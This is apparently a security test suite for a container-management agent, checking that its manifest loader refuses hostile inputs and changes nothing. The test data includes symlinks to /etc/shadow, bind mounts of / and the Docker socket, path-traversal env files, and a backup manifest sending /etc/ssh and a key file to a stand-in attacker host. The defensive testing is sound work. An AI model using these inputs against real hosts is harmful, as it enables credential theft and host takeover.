import { execFileSync } from 'node:child_process';
import { mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Agent, ManifestLoadState } from '../../src/agent.js';
import { runCli } from '../helpers/cli.js';
import { cleanupInstance, eventually, removeDir, startTestAgent, tempDir, testInstance, type TestAgent } from '../helpers/docker.js';
import { doc, idleService, toYaml, writeManifest } from '../helpers/manifests.js';
import { changedContainers, markContainers, type ContainerMark } from '../faults/support/snapshot.js';
import { send } from './support/requests.js';

// Issue 12, "A manifest is root on the host" and "The loader follows anything": each attack
// dropped into a running agent's folder for real (symlinks, a FIFO, device links), refused with
// file, line, field and the policy setting that would allow it; nothing changes.
const instance = testInstance('sec-manifests');
let dir: string;
let t: TestAgent;
let agent: Agent;
let baseline: ContainerMark[];
const SHADOW_LINE = /^root:/m;

async function nextLoad(since: string, ok: boolean): Promise<ManifestLoadState> {
  return eventually(`a load with ok=${ok}`, () => {
    const l = agent.lastLoad;
    return l && l.at > since && l.ok === ok ? l : undefined;
  }, 20_000, 25);
}

/** Writes the attack, waits for its rejection, removes it again, and checks nothing changed. */
async function attack(name: string, write: () => Promise<void>, cleanup: () => Promise<void>): Promise<string> {
  const revision = agent.parts.controller.current.revision;
  const state = await readFile(join(t.stateDir, 'state.json'), 'utf8').catch(() => '');
  const since = new Date().toISOString();
  await write();
  const rejected = await nextLoad(since, false).finally(async () => {
    const back = new Date().toISOString();
    await cleanup();
    await nextLoad(back, true);
  });
  expect(agent.parts.controller.current.revision, `${name} changed the applied revision`).toBe(revision);
  expect(changedContainers(baseline, await markContainers(instance)), `${name} touched containers`).toEqual([]);
  const certs = (s: string) => (JSON.parse(s || '{}') as { certificates?: unknown }).certificates;
  expect(certs(await readFile(join(t.stateDir, 'state.json'), 'utf8').catch(() => ''))).toEqual(certs(state));
  return rejected.errors.join('\n');
}

beforeAll(async () => {
  dir = await tempDir('sec-manifests');
  await writeManifest(dir, '00-base.yaml', [doc('Service', 'app', idleService())]);
  t = await startTestAgent(dir, instance);
  agent = t.agent;
  await agent.run();
  await eventually('base ready', () => agent.parts.controller.isApplied() && agent.notReadyServices().length === 0, 60_000);
  baseline = await markContainers(instance);
});

afterAll(async () => {
  await agent?.stop();
  await cleanupInstance(instance);
  await removeDir(dir);
  await removeDir(t.stateDir);
});

const svc = (name: string, spec: Record<string, unknown>) => toYaml([doc('Service', name, { image: 'certitrack-test/busybox:latest', pullPolicy: 'Never', ...spec })]);

describe('the loader, attacked through the folder', () => {
  it('refuses c.yaml -> /etc/shadow unread: the error and /status quote none of it', async () => {
    const text = await attack('shadow link', () => symlink('/etc/shadow', join(dir, 'c.yaml')), () => rm(join(dir, 'c.yaml')));
    expect(text).toMatch(/c\.yaml:1:1: is a symbolic link to \/etc\/shadow, outside the manifests folder; not read/);
    expect(text).not.toMatch(SHADOW_LINE);
    const status = await send({ socketPath: join(t.stateDir, 'agent.sock') }, 'GET', '/status');
    expect(status.body).not.toMatch(/root:[^"]*:\d+:/);
  });

  it('refuses a.yaml -> /dev/zero and a FIFO named x.yaml at once, and later reloads still happen', async () => {
    const zero = await attack('/dev/zero link', () => symlink('/dev/zero', join(dir, 'a.yaml')), () => rm(join(dir, 'a.yaml')));
    expect(zero).toMatch(/a\.yaml:1:1: is a symbolic link to \/dev\/zero, outside the manifests folder/);
    const fifo = join(dir, 'x.yaml');
    const text = await attack('FIFO', async () => void execFileSync('mkfifo', [fifo]), () => rm(fifo));
    expect(text).toMatch(/x\.yaml:1:1: is a FIFO, not a regular file; not read/);
    // The FIFO never blocked the loader: a good change right after applies, and /healthz stays honest.
    const since = new Date().toISOString();
    await writeManifest(dir, '01-more.yaml', [doc('Network', 'extra')]);
    await nextLoad(since, true);
    expect((await send({ socketPath: join(t.stateDir, 'agent.sock') }, 'GET', '/healthz')).status).toBe(200);
    await rm(join(dir, '01-more.yaml'));
    await nextLoad(new Date().toISOString(), true);
  });

  it('validate on the same folder finishes (no hang, no read of /dev/zero) and reports each entry', async () => {
    const f = await tempDir('sec-validate');
    try {
      await symlink('/dev/zero', join(f, 'a.yaml'));
      execFileSync('mkfifo', [join(f, 'x.yaml')]);
      await symlink('/etc/shadow', join(f, 'c.yaml'));
      const r = await runCli(['validate', f], {}, 60_000);
      expect(r.signal).toBeNull();
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/a\.yaml:1:1: is a symbolic link to \/dev\/zero/);
      expect(r.stderr).toMatch(/x\.yaml:1:1: is a FIFO/);
      expect(r.stderr).not.toMatch(SHADOW_LINE);
    } finally {
      await removeDir(f);
    }
  });
});

describe('a manifest that would take the host', () => {
  it('refuses bind mounts of /, the Docker socket and /etc, also through a symlink inside the folder', async () => {
    await symlink('/', join(dir, '.rootlink'));
    const text = await attack('mounts', () => writeFile(join(dir, 'm.yaml'), svc('taker', { volumes: ['/:/host', '/var/run/docker.sock:/var/run/docker.sock', '/etc:/host-etc:ro', './.rootlink:/via-link'] })), () => rm(join(dir, 'm.yaml')));
    expect(text).toMatch(/m\.yaml:\d+:\d+: spec\.volumes\[0\]: bind mount source \/ \(real path \/\) contains the protected .*allow it with allowedMountSources: \["\/"\]/);
    expect(text).toMatch(/spec\.volumes\[1\]: bind mount source \/var\/run\/docker\.sock .*is inside the protected .*docker\.sock/);
    expect(text).toMatch(/spec\.volumes\[2\]: bind mount source \/etc .*is inside the protected \/etc/);
    expect(text).toMatch(/spec\.volumes\[3\]: bind mount source \.\/\.rootlink \(real path \/\) contains the protected/);
  });

  it('refuses env files outside the allowed roots, written absolute or with ../, and names the policy setting', async () => {
    const text = await attack('env files', () => writeFile(join(dir, 'e.yaml'), svc('reader', { env: { A: { file: '/etc/shadow' }, B: { file: '../../../../../../../etc/shadow' } } })), () => rm(join(dir, 'e.yaml')));
    expect(text).toMatch(/e\.yaml:\d+:\d+: spec\.env\.A: secret file \/etc\/shadow is \/etc\/shadow, outside the manifests folder and the allowed roots; allow it with allowedRoots: \["\/etc\/shadow"\] in the host policy/);
    expect(text).toMatch(/spec\.env\.B: secret file \.\.\/.*etc\/shadow is \/etc\/shadow, outside/);
    expect(text).not.toMatch(SHADOW_LINE);
  });

  it('refuses a cleartext backup of /etc/ssh and the agent\'s hash.key', async () => {
    const text = await attack('backup', () => writeFile(join(dir, 'b.yaml'), toYaml([doc('Backup', 'exfil', {
      sources: [{ directory: { path: '/etc/ssh' } }, { file: { path: join(t.stateDir, 'hash.key') } }],
      destination: { s3: { bucket: 'loot', endpoint: 'http://backup.attacker.example:9000', forcePathStyle: true } },
    })])), () => rm(join(dir, 'b.yaml')));
    expect(text).toMatch(/b\.yaml:\d+:\d+: spec\.sources\[0\]\.directory\.path: backup directory \/etc\/ssh is \/etc\/ssh, outside/);
    expect(text).toMatch(/spec\.sources\[1\]\.file\.path: backup file .*hash\.key is .*outside/);
    expect(text).toMatch(/spec\.destination\.s3\.endpoint: endpoint http:\/\/backup\.attacker\.example:9000 is not https.*allowedEndpoints: \["http:\/\/backup\.attacker\.example:9000"\]/);
  });

  it('refuses a keyFile that would overwrite an unrelated existing file, which stays as it was', async () => {
    const victim = join(dir, 'conf', 'important.conf');
    await mkdir(join(dir, 'conf'), { recursive: true });
    await writeFile(victim, 'do not lose me\n');
    const text = await attack('keyFile', () => writeFile(join(dir, 'k.yaml'), toYaml([doc('Certificate', 'clobber', { domains: ['x.certitrack.test'], certFile: './conf/cert.pem', keyFile: './conf/important.conf' })])), () => rm(join(dir, 'k.yaml')));
    expect(text).toMatch(/k\.yaml:\d+:\d+: spec\.keyFile: .*important\.conf already exists and is not a private key the agent wrote/);
    expect(await readFile(victim, 'utf8')).toBe('do not lose me\n');
  });
});
